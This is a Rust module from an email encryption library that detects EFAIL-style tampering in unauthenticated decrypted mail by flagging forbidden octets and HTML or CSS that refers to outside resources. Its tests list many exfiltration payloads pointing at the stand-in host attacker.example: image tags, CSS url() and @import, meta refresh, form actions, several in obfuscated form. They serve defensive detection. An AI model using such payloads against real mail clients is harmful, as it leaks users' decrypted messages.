//! What an attack on unauthenticated encryption leaves in the plain text (rule 8; EFAIL,
//! "Efail: Breaking S/MIME and OpenPGP Email Encryption using Exfiltration Channels", 2018).
//!
//! Whoever changes a CBC ciphertext gets, for each block of text of her own, a block of random
//! octets beside it, and needs a back channel: a program that fetches something when it shows
//! the text. So two things are looked for: octets that have no place in mail, and HTML that
//! refers to something outside.
//!
//! This is a heuristic, and on the safe side: newsletters with images from the web are
//! suspicious when they come encrypted without a signature, on purpose (rule 8). Plain links,
//! which nobody follows by reading, and images that the mail brings along (`cid:`, `data:`) are
//! not. What it does not find: random octets that are hidden in a part with binary transfer
//! encoding, and channels that need no HTML.

mod html;
mod octets;

use super::Problem;
use waxseal_message::{Message, Part};

/// What is wrong with an unauthenticated entity, if anything is.
pub(super) fn looks_like_an_attack(entity: &Message) -> Option<Problem> {
    let problem = |code, message: &str| Problem {
        code,
        message: message.to_owned(),
    };
    let root = entity.root();
    if !octets::are_allowed(&root) {
        return Some(problem(
            "suspicious.octets",
            "the decrypted text holds octets that its encoding forbids",
        ));
    }
    find(&root, &refers_outside).then(|| {
        problem(
            "suspicious.external-reference",
            "the decrypted text refers to something outside, and is not authenticated",
        )
    })
}

/// Octets that are no mail at all: no header field at the beginning, and no text either. A wrong
/// key gives such, when it happens to give valid padding.
pub(super) fn is_garbage(octets: &[u8]) -> bool {
    !octets::begin_with_field(octets) && !octets::begin_as_text(octets)
}

fn find(part: &Part<'_>, test: &dyn Fn(&Part<'_>) -> bool) -> bool {
    test(part) || part.children().any(|child| find(&child, test))
}

fn refers_outside(part: &Part<'_>) -> bool {
    let media_type = part.media_type();
    match media_type.as_str() {
        // RFC 2046 §5.2.3.
        "message/external-body" => true,
        "text/css" => html::style_refers_outside(&text(part)),
        "text/plain" | "text/calendar" | "text/csv" | "text/vcard" => false,
        other => {
            let is_markup = other.starts_with("text/") || other.ends_with("xml");
            is_markup && part.is_leaf() && html::refers_outside(&text(part))
        }
    }
}

fn text(part: &Part<'_>) -> String {
    let lossy = || String::from_utf8_lossy(&part.decoded()).into_owned();
    part.text().unwrap_or_else(lossy)
}

#[cfg(test)]
mod tests {
    use super::*;
    use waxseal_message::Limits;

    fn check(octets: &[u8], expected: Option<&str>) {
        let message = Message::parse(octets.to_vec(), &Limits::default()).unwrap();
        let problem = looks_like_an_attack(&message);
        assert_eq!(
            problem.map(|problem| problem.code),
            expected,
            "{}",
            String::from_utf8_lossy(octets)
        );
    }

    fn html(body: &str) -> Vec<u8> {
        format!("Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n")
            .into_bytes()
    }

    const OCTETS: Option<&str> = Some("suspicious.octets");
    const EXTERNAL: Option<&str> = Some("suspicious.external-reference");

    #[test]
    fn rule_08_ordinary_mail_is_not_suspicious() {
        check(b"Subject: x\r\n\r\nHello\r\n", None);
        check(b"just text\r\nwith lines\r\n", None);
        check("Subject: Grüße\r\n\r\nGrüße\r\n".as_bytes(), None);
        check(
            b"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGr\xfc\xdfe\r\n",
            None,
        );
        check(
            b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n\x00\x01\xff\r\n",
            None,
        );
        check(
            b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B$3\x1b(B\r\n",
            None,
        );
        check(
            &html("<p>See <a href=\"https://example.org/\">here</a>, 1 < 2 & 3</p>"),
            None,
        );
        check(
            &html("<img src=\"cid:one@example.org\"><img src='data:image/png;base64,AA=='>"),
            None,
        );
        check(
            &html("<style>p { background: url(cid:two) }</style><p style='color: red'>"),
            None,
        );
        check(
            &html("<!DOCTYPE html><!-- a comment --><br/><img src=logo.png>"),
            None,
        );
    }

    #[test]
    fn rule_08_octets_that_the_encoding_forbids() {
        for octets in [
            &b"Subject: x\r\n\r\nHel\x00lo\r\n"[..],
            b"Subject: x\x01\r\n\r\nHello\r\n",
            b"Subject: x\xff\xfe\r\n\r\nHello\r\n",
            b"Subject: x\r\n\r\nHel\x07lo\r\n",
            b"Content-Transfer-Encoding: 7bit\r\n\r\nGr\xfc\xdfe\r\n",
            b"Content-Transfer-Encoding: 7bit\r\n\r\nGr\xc3\xbc\xc3\x9fe\r\n",
            b"Subject: x\r\n\r\nGr\xfc\xdfe\r\n",
            b"Content-Transfer-Encoding: quoted-printable\r\n\r\nGr\xfc\xdfe\r\n",
            b"Content-Transfer-Encoding: base64\r\n\r\nSGVs\x80bG8=\r\n",
            b"Content-Transfer-Encoding: base64\r\n\r\nSGVs <img> bG8=\r\n",
            b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGr\xfc\xdfe\r\n",
            b"Content-Transfer-Encoding: 8bit\r\n\r\nGr\xfc\x02\xdfe\r\n",
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\npre\x80\x81\r\n--b\r\n\r\nx\r\n--b--\r\n",
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nX-A: \x90\r\n\r\nx\r\n--b--\r\n",
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--\r\npost\x00\r\n",
        ] {
            check(octets, OCTETS);
        }
    }

    #[test]
    fn rule_08_html_with_external_references() {
        for body in [
            "<img src=\"http://attacker.example/",
            "<img src=\"http://attacker.example/\">",
            "<IMG\nSRC = http://attacker.example/x>",
            "<img/src='//attacker.example'>",
            "<img ignore=\"\r\n\" src=http:attacker.example>",
            "<img src=\"ht&#116;p&colon;//attacker.example\">",
            "<img src=\"h\nttp://attacker.example\">",
            "<img src=\"\\\\attacker.example\\x\">",
            "<img srcset=\"cid:x 1x, https://attacker.example 2x\">",
            "<image href=http://attacker.example/>",
            "<svg><image xlink:href=\"https://attacker.example\"/></svg>",
            "<link rel=stylesheet href=\"https://attacker.example/\">",
            "<base href=\"ftp://attacker.example/\">",
            "<object data=\"ftp://attacker.example/x\">",
            "<form action=\"https://attacker.example\"><input type=submit>",
            "<input type=image src=https://attacker.example>",
            "<body background=\"https://attacker.example\">",
            "<video poster=https://attacker.example>",
            "<iframe srcdoc=\"&lt;img src=//attacker.example&gt;\">",
            "<meta http-equiv=\"refresh\" content=\"0; url=https://attacker.example\">",
            "<p style=\"background-image: url('https://attacker.example')\">",
            "<p style=\"background: u\\72l(//attacker.example)\">",
            "<style>@import 'https://attacker.example';</style>",
            "<style>@font-face { src: url(http://attacker.example) }",
            "<a ping=\"https://attacker.example\" href=\"#\">x</a>",
            "<script>document.location = 'https://attacker.example'</script>",
            "<p title=\"never closed",
            "<!-- <img src=https://attacker.example> -->",
        ] {
            check(&html(body), EXTERNAL);
        }
        check(
            b"Content-Type: message/external-body; access-type=URL; URL=\"http://a.example\"\r\n\r\nContent-Type: text/plain\r\n\r\n",
            EXTERNAL,
        );
        check(
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--b\r\n\r\nsecret\r\n--b--\r\n",
            EXTERNAL,
        );
        check(
            b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGltZyBzcmM9aHR0cDovL2EuZXhhbXBsZT4=\r\n",
            EXTERNAL,
        );
    }

    #[test]
    fn garbage_is_neither_entity_nor_text() {
        for (octets, expected) in [
            (&b"Subject: x\r\n\r\n\x00"[..], false),
            (b"\r\nHello", false),
            (b"Hello", false),
            (b"Gr\xc3\xbc\xc3\x9fe", false),
            (b"", false),
            (b"\x8f\x02\xa7\x91:\x00", true),
            (b"abc\x00def", true),
        ] {
            assert_eq!(is_garbage(octets), expected, "{octets:x?}");
        }
    }
}
